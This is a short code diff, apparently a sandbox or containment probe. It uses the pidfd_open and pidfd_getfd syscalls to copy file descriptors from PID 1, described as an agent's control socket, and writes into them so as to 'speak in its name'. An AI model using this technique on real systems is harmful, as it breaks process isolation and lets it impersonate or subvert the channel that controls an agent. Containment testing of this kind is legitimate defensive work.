@@ -1,0 +1,7 @@
+# Take the agent's control socket by pidfd_getfd, and speak in its name.
+pid = syscall(434, 1, 0)
+for fd in range(10):
+    stolen = syscall(438, pid, fd, 0)
+    if stolen >= 0:
+        reached(f"descriptor {fd}")
+        os.write(stolen, b"\x00" * 64)
